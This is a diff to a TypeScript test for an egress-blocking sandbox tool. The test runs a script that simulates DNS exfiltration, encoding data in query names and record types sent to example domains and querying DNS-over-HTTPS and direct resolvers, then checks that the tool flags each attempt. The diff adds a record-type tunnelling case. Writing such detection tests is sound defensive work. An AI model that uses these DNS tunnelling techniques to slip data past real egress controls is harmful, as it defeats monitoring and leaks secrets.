@@ -10,6 +10,7 @@ send() { for i in $(seq 1 15); do
 done; }
 send allowed.example.net
 send denied.example.org
+for i in $(seq 1 40); do echo "a.types.example.com TYPE$((1000 + i))"; done | dig +tries=1 +time=20 +noall -f -
 dig +tries=1 +time=20 +short dns.google A
 dig +tries=1 +time=20 +noall +comments use-application-dns.net | grep -o 'status: [A-Z]*'
 dig +tries=1 +time=20 +short @198.51.100.53 plain.example.net
@@ -19,12 +20,13 @@ test('secrets that leave in names, and resolvers that policy does not see, are t
   await using lab = await startLab({
     records: {
       '*.allowed.example.net': ['198.51.100.7'],
+      '*.types.example.com': ['198.51.100.7'],
       'plain.example.net': ['198.51.100.8'],
       'dns.google': ['203.0.113.8'],
     },
   })
   using place = new Place()
-  const allow = '*.allowed.example.net plain.example.net dns.google'
+  const allow = '*.allowed.example.net *.types.example.com plain.example.net dns.google'
   const args = ['run', '--quiet', '--egress', 'block', '--allow', allow, '--out', place.out]
   const { stdout } = await lab.runner.exec(runwarden, [...args, '--', 'bash', '-c', script])
   expect(stdout).toBe('203.0.113.8\nstatus: NXDOMAIN\n198.51.100.8\n')
@@ -32,6 +34,7 @@ test('secrets that leave in names, and resolvers that policy does not see, are t
   const asked = await lab.dns.queries()
   const under = (zone: string) => asked.filter(({ name }) => name.endsWith(zone)).length
   expect(under('.allowed.example.net')).toBe(15)
+  expect(under('a.types.example.com')).toBe(40)
   expect(under('.denied.example.org')).toBe(0)
   expect(asked.filter(({ name }) => name === 'use-application-dns.net')).toEqual([])
   const plain = asked.filter(({ name }) => name === 'plain.example.net')
@@ -43,6 +46,7 @@ test('secrets that leave in names, and resolvers that policy does not see, are t
   expect(found.map(({ id, severity, title }) => `${id} ${severity}: ${title}`)).toEqual([
     'exfiltration-attempt high: the names asked below example.net carry data',
     'exfiltration-attempt medium: the names asked below example.org carry data',
+    'exfiltration-attempt high: the names asked below example.com carry data',
     'dns-over-https medium: dns.google answers DNS over HTTPS',
   ])
   const queries = new Map(place.eventsOf('dns.query').map((event) => [event.seq, event.name]))
